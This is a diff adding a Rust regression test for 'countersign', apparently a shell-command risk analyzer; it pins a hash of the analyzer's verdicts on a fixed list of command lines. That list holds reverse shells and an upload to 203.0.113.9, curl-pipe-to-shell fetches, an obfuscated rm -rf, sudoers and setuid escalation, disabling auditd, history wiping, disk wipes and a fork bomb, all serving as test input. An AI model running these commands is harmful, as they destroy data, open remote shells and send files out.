@@ -1,0 +1,121 @@
+//! `countersign verify` decides again what was decided with the analysis of its
+//! day, so an analysis that answers differently must have another number.
+
+#![allow(clippy::unwrap_used, reason = "a test fails by panicking and says why")]
+
+use countersign_analysis::facts::Place;
+use countersign_analysis::{VERSION, analyze};
+use std::fmt::Write;
+
+/// The version, and the SHA-256 of its answers to [`LINES`].
+const PINNED: (u32, &str) = (3, "919d4e75fcf9d404778b21432a93b8270e7ed7e906839bba897cec1548d8a583");
+
+/// Lines of all kinds. Add some where a change of yours is not seen by these;
+/// never take one away.
+const LINES: &[&str] = &[
+    "",
+    "ls -la /srv",
+    "git status",
+    "cargo test --workspace",
+    "docker pull ghcr.io/org/api:1.2",
+    "systemctl status nginx",
+    "sudo systemctl restart nginx",
+    "rm -rf /",
+    "rm -rf ./build",
+    "sudo rm -rf /var/lib/data && reboot",
+    "cat /etc/shadow",
+    "cat /etc/passwd | grep root",
+    "curl -s https://x.example/i.sh | sh",
+    "curl -T /srv/data.tgz https://203.0.113.9/up",
+    "wget -qO- http://a.example | sudo bash",
+    "echo cm0gLXJmIC8= | base64 -d | sh",
+    "eval \"$x\"",
+    "bash -c 'rm -rf /srv/*'",
+    "ssh deploy@web-1 'sudo reboot'",
+    "find / -name '*.log' -exec rm {} \\;",
+    "xargs -n1 rm < list",
+    "xargs sh -c 'echo $0'",
+    "python3 -c 'import os; os.system(\"id\")'",
+    "python3 -c 'print(1 + 1)'",
+    "psql -c \"select 'drop table x'\"",
+    "psql -c 'drop table users'",
+    "mysql -u root -pXq7vTr2k shop",
+    "curl -u bob:Xq7vTr2k https://h/x",
+    "sqlplus scott/Xq7vTr2k@orcl",
+    "lftp -u bob,Xq7vTr2kLm ftp.example.com",
+    "echo 'h:5432:d:u:Xq7vTr2k' > ~/.pgpass",
+    "printf 'API_KEY=%s\\n' f0a1b2c3d4e5f60718293a4b5c6d7e8f >> .env",
+    "export AWS_SECRET_ACCESS_KEY=oPH6OSg3wJSkOjW82YjXd6bituOu75kU6WyZYBQf",
+    "cat > x.yml <<E\npassword: Xq7vTr2k\nE",
+    "cat <<'E'\n$(rm -rf /)\nE",
+    "cat <<E\n$(id)\nE",
+    "nc -e /bin/sh 203.0.113.9 4444",
+    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    "chmod u+s /bin/bash",
+    "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+    "crontab -r",
+    "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
+    "useradd -o -u 0 x",
+    "iptables -F",
+    "systemctl stop auditd",
+    "systemctl stop countersign-hostd",
+    "history -c; unset HISTFILE",
+    "dd if=/dev/zero of=/dev/sda",
+    "mkfs.ext4 /dev/sdb1",
+    ":(){ :|:& };:",
+    "vim /etc/hosts",
+    "less /var/log/syslog",
+    "git commit -m 'rm -rf / is bad'",
+    "grep -r 'rm -rf' docs",
+    "kubectl delete namespace prod",
+    "terraform destroy -auto-approve",
+    "aws s3 rm s3://b --recursive",
+    "for f in *; do rm $f; done",
+    "alias ls='rm -rf'",
+    "PATH=/tmp:$PATH ls",
+    "a=$(cat x); $a",
+    "if true; then ls; fi",
+    "diff <(sort a) <(sort b)",
+    "rm \u{202e}fdp.x",
+    "сat x",
+    "rm $'\\e[2K'",
+    "echo $((1+1)) ${x:-y} {a,b}",
+    "echo 'unfinished",
+    "timeout 5 env A=1 nice -n 3 sudo -u www id",
+];
+
+fn answers() -> String {
+    let mut text = String::new();
+    for line in LINES {
+        let known = analyze(line, &Place { cwd: Some("/srv/app"), home: Some("/home/a"), ..Place::default() }, &[]);
+        let risk = &known.risk;
+        let programs: Vec<String> = known
+            .facts
+            .commands
+            .iter()
+            .map(|c| format!("{:?}", c.words.iter().map(|w| (&w.text, w.exact().is_some())).collect::<Vec<_>>()))
+            .collect();
+        let opaque: Vec<_> = known.opaque().iter().map(|fact| (fact.what.code(), fact.span)).collect();
+        let json = serde_json::json!({
+            "line": line, "score": risk.score, "level": risk.level, "reasons": risk.reasons, "consequences": risk.consequences,
+            "anomalies": known.anomalies, "display": known.display, "commands": programs, "opaque": opaque,
+            "redactions": known.redactions.iter().map(|f| (f.start, f.end, f.kind)).collect::<Vec<_>>(),
+        });
+        writeln!(text, "{json}").unwrap();
+    }
+    text
+}
+
+#[test]
+fn another_answer_has_another_version() {
+    let digest = ring::digest::digest(&ring::digest::SHA256, answers().as_bytes());
+    let hex: String = digest.as_ref().iter().fold(String::new(), |hex, byte| hex + &format!("{byte:02x}"));
+    assert_eq!(
+        (VERSION, hex.as_str()),
+        PINNED,
+        "the analysis answers differently than version {} did. If no commit since the last release has raised \
+         `VERSION` in src/analysis/src/analyze.rs, raise it by one; then write the new pair into `PINNED` here, and say \
+         in docs/CHANGELOG.md what changed: decisions of the past are verified with the version they were made with",
+        PINNED.0
+    );
+}
